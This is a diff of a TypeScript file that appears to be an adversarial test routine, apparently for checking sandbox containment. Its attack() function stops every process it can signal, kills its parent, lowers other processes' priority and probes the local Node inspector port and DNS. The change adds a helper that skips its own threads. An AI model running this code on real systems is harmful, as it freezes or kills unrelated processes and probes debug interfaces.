@@ -30,17 +30,19 @@ const hoard: Float64Array[] = [];
 let rounds = 0;
 let refused = 0;
 const tryIt = (f: () => void) => { try { f(); } catch { refused++; } };
+// its own threads have pids just above its own, and signalling one stops the whole process
+const own = (pid: number) => pid >= process.pid && pid < process.pid + 64;
 function attack(): void {
   if (typeof process.getuid !== 'function' || process.getuid() === 0 || rounds >= 200) return;
   rounds++;
   // a stopped sibling hangs in the middle of its call (a killed one would just be restarted)
   tryIt(() => process.kill(-1, 'SIGSTOP'));
   for (let pid = Math.max(2, process.pid - 3000); pid < process.pid + 3000; pid++) {
-    if (pid !== process.pid) tryIt(() => process.kill(pid, 'SIGSTOP'));
+    if (!own(pid)) tryIt(() => process.kill(pid, 'SIGSTOP'));
   }
   tryIt(() => process.kill(process.ppid, 'SIGKILL'));
   for (let pid = Math.max(2, process.pid - 3000); pid < process.pid + 3000; pid++) {
-    if (pid !== process.pid) tryIt(() => hostileOs.setPriority(pid, 19));
+    if (!own(pid)) tryIt(() => hostileOs.setPriority(pid, 19));
   }
   tryIt(() => hostileNet.connect({ host: '127.0.0.1', port: 9229 }).on('error', () => undefined));
   tryIt(() => hostileDns.lookup('example.com', () => undefined));
